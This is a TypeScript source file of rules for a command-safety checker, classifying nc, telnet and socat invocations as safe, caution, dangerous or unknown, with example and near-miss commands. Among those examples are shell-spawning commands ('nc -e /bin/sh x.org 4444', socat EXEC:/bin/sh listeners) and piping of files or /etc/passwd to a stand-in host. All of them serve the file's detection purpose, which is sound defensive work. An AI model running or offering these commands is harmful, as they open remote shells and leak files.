// Programs that connect standard input and output to a port: nc in its variants, telnet, socat. What they send is judged line by line;
// what listens, or runs a program behind the connection, is not harmless.
import type { Arg } from "../../arg.ts";
import type { Invocation } from "../../invocation.ts";
import { type Finding, program, type RuleContext } from "../../rule.ts";
import { sendsLines } from "./sent-lines.ts";
import { reportCarried } from "./probes.ts";

const peer = (inv: Invocation) => [{ kind: "host", name: inv.operands.map((arg) => arg.text).join(":") || "port" }];
const staysOpen: Finding = { risk: "caution", unbounded: true, why: "stays connected until it is stopped", safer: "nc -zv -w 3" };

function inspectNc(inv: Invocation, ctx: RuleContext): void {
  reportCarried(inv, ctx);
  if (inv.has("-h") || inv.has("--version")) return;
  if (inv.operands.length === 0 && !inv.has("-l")) ctx.report({ risk: "unknown", why: "there is no host" });
  if (inv.has("-l"))
    ctx.report({ risk: "caution", unbounded: true, why: "opens a port to which anybody may connect, and waits", safer: "ss -ltn" });
  if (inv.has("-z")) return;
  sendsLines(inv, ctx);
  if (inv.stdin.kind === "none" && !inv.has("-w") && !inv.has("-l")) ctx.report(staysOpen);
}

export const nc = program({
  names: "nc|netcat|ncat|nc.openbsd|nc.traditional|nc6",
  source: "nc(1), OpenBSD and traditional; ncat(1) 7.95; reference/command-safety.md 3.4",
  why: "connects to a port",
  flags:
    "-4 -6 -b -C -D -d -F -h|--help -N -n -r -S -t -U -u|--udp -v|--verbose -vv -Z -z --ssl --ssl-verify --send-only --recv-only --sctp --crlf --no-shutdown -V|--version --nodns",
  values:
    "-i|--idle-timeout -I -m -M -O -P -p|--source-port -q -s|--source -T -w|--wait -X --proxy --proxy-type --ssl-servername --ssl-trustfile -g -G --delay -H",
  options: {
    "-l|--listen": { arity: "flag", why: "opens a port" },
    "-k|--keep-open|--broker|--chat|-L": { arity: "flag", risk: "caution", why: "serves one caller after the other" },
    "-e|--exec|-c|--sh-exec|--lua-exec": { risk: "dangerous", why: "runs a program whose input and output is the network" },
    "-o|--output|-x|--hex-dump": { kind: "write", why: "writes what passes to a file" },
    "--proxy-auth|--ssl-cert|--ssl-key": { risk: "caution", sensitive: true, why: "uses a password or a private key" },
  },
  operands: "data*",
  answers: [1],
  inspect: inspectNc,
  targets: peer,
  noInverse: "what was sent cannot be taken back",
  examples: {
    "nc -zv db1 5432": "safe",
    "nc -vz -w 3 db1 1-100": "safe",
    "nc -w 3 db1 22": "safe",
    "echo ruok | nc zk1 2181": "safe",
    "echo stats | nc -q 1 mc1 11211": "safe",
    "echo 'show stat' | nc -U /run/haproxy.sock": "safe",
    "ncat --ssl -w 2 x.org 443": "safe",
    "nc db1 5432": "caution",
    "nc -l 9000": "caution",
    "nc -lk -p 9000": "caution",
    "nc -z -o dump db1 80": "caution",
    "ncat --ssl-key k -z db1 80": "caution",
    "echo 'a:1|c' | nc -u -w1 statsd 8125": "unknown",
    "echo flush_all | nc mc1 11211": "dangerous",
    "echo kill | nc zk1 2181": "dangerous",
    "nc -e /bin/sh x.org 4444": "dangerous",
    "cat f | nc x.org 99": "dangerous",
    "printf 'stats\\r\\nquit\\r\\n' | nc mc1 11211": "safe",
    "printf 'flush_all\\r\\n' | nc mc1 11211": "dangerous",
    "ncat x.org 4444 --sh-exec ls": "dangerous",
  },
  nearMisses: [
    "nc",
    "nc -lp 4444 -e sh",
    "cat f | nc x.org 99",
    "nc -ze sh x.org 1",
    "nc -w 1 x.org 99 < f",
    'nc -z "$(cat f).x.org" 1',
    "nc -zc sh x 1",
  ],
});

export const telnet = program({
  names: "telnet|inetutils-telnet",
  source: "telnet(1), inetutils 2.5",
  why: "connects to a port",
  flags: "-4 -6 -8 -E -L -a -c -d -K -r",
  values: "-b -e -l -S -X",
  options: { "-n": { kind: "write", why: "writes a trace to a file" } },
  operands: "data*",
  answers: [1],
  inspect: (inv, ctx) => {
    sendsLines(inv, ctx);
    if (inv.operands.length === 0) ctx.report({ risk: "unknown", why: "there is no host" });
    else if (inv.stdin.kind === "none") ctx.report({ ...staysOpen, safer: `nc -zv -w 3 ${inv.operands.map((arg) => arg.text).join(" ")}` });
  },
  targets: peer,
  noInverse: "what was sent cannot be taken back",
  examples: {
    "echo quit | telnet db1 5432": "safe",
    "telnet db1 5432": "caution",
    "telnet -n f db1 23": "caution",
    "echo flush_all | telnet mc1 11211": "dangerous",
  },
  nearMisses: ["telnet", "cat f | telnet x.org 99"],
});

const connects =
  /^(tcp[46]?(-connect)?|udp[46]?(-connect|-sendto)?|openssl(-connect)?|ssl|unix(-connect|-client)?|abstract(-connect|-client)?|proxy(-connect)?|socks4a?|vsock-connect|sctp[46]?(-connect)?)$/;
const standard = /^(-|stdio|stdin|stdout|fd|0|1|2|null)$/;
const runs = /^(exec|system|shell|pty|tun|interface|ip\d?|readline)/;
const listens = /listen|recv|^l$/;
const opens = /^(open|create|creat|file|gopen|pipe|fifo)$/;
const harmlessOptions =
  /^(crnl|cr|connect-timeout=[\d.]+|verify=[01]|retry=\d+|interval=[\d.]+|shut-none|shut-null|null-eof|ignoreeof|nonblock|keepalive|snihost=[\w.-]+|commonname=[\w.-]+|cafile=[\w./-]+|readbytes=\d+|pf=ip[46]|forever-off|nodelay|so-keepalive|bind=[\w.:-]+|escape=\w+)$/;

/** What one of socat's two addresses means. */
function judgeEnd(arg: Arg): Finding | undefined {
  if (arg.shape !== "literal") return { risk: "unknown", why: "an address that is not written out", span: arg.span };
  const [address = "", ...options] = arg.text.split(",");
  const type = (address.split(":", 1)[0] ?? "").toLowerCase();
  const finding = judgeType(type, address, options) ?? judgeOptions(options);
  return finding === undefined ? undefined : { ...finding, span: arg.span };
}

function judgeType(type: string, address: string, options: readonly string[]): Finding | undefined {
  if (runs.test(type)) return { risk: "dangerous", why: "connects a program or a device to the network" };
  if (listens.test(type)) return { risk: "caution", unbounded: true, why: "opens a port to which anybody may connect" };
  if (opens.test(type) && options.some((option) => /^(creat|create|append|trunc|wronly|rdwr)/.test(option)))
    return { risk: "dangerous", why: "writes what arrives into a file" };
  const connection = connects.test(type) || standard.test(type) || isSocketPath(address);
  return connection ? undefined : { risk: "unknown", why: "opens a file, or something that no table knows" };
}

function judgeOptions(options: readonly string[]): Finding | undefined {
  return options.every((option) => harmlessOptions.test(option.toLowerCase()))
    ? undefined
    : { risk: "unknown", why: "an option of the address that no table knows" };
}

/** A bare path is opened as what it is; only the name tells that it is a socket. */
const isSocketPath = (address: string): boolean => /^\/[\w./-]+\.?(sock|socket|stats|stat)$/.test(address);

function inspectSocat(inv: Invocation, ctx: RuleContext): void {
  if (inv.has("-V") || inv.has("-h")) return;
  const ends = inv.operands;
  const findings = ends.map(judgeEnd).filter((finding) => finding !== undefined);
  for (const finding of findings) ctx.report(finding);
  const usesInput = ends.some((arg) => /^(-|stdio|stdin|fd:?0?|0)\b|^-/i.test(arg.text));
  if (ends.length !== 2 || !usesInput) return ctx.report({ risk: "unknown", why: "joins two connections" });
  sendsLines(inv, ctx);
  if (inv.stdin.kind === "none" && !inv.has("-T")) ctx.report({ ...staysOpen, safer: "echo the line to it" });
}

export const socat = program({
  names: "socat",
  source: "socat(1) 1.8; reference/command-safety.md 3.4",
  style: "posix",
  why: "joins two connections",
  flags: "-V -h -hh -hhh -d -dd -ddd -d0 -d1 -d2 -v -x -s -u -U -4 -6 -lh -D",
  values: "-t -T -b -ls -lp",
  options: { "-lf|-L|-W|-r|-R": { kind: "write", why: "writes a log, a lock or what passes to a file" } },
  operands: "data*",
  inspect: inspectSocat,
  targets: peer,
  noInverse: "what was sent cannot be taken back",
  examples: {
    "echo 'show stat' | socat stdio /var/run/haproxy.sock": "safe",
    "echo 'show info;show stat' | socat - UNIX-CONNECT:/run/haproxy/admin.sock": "safe",
    "echo mntr | socat - tcp:zk1:2181": "safe",
    "socat -T 3 - TCP:db1:5432,connect-timeout=3": "safe",
    "echo 'disable server web/s1' | socat stdio /var/run/haproxy.sock": "caution",
    "socat - TCP-LISTEN:9000": "caution",
    "socat -lf log -T 3 - TCP:db1:1": "caution",
    "echo 'shutdown sessions server web/s1' | socat stdio /var/run/haproxy.sock": "dangerous",
    "socat TCP-LISTEN:4444,reuseaddr EXEC:/bin/sh": "dangerous",
    "socat -u TCP-LISTEN:9000 OPEN:f,creat": "dangerous",
    "socat -T 3 - FILE:/etc/passwd": "unknown",
  },
  nearMisses: [
    "socat - TCP:db1:1",
    "socat -u FILE:/etc/passwd TCP:x.org:1",
    "socat TCP:a:1 TCP:b:2",
    "socat - $X",
    "socat SYSTEM:ls -",
    "socat -T 1 - /tmp/x,create",
  ],
});
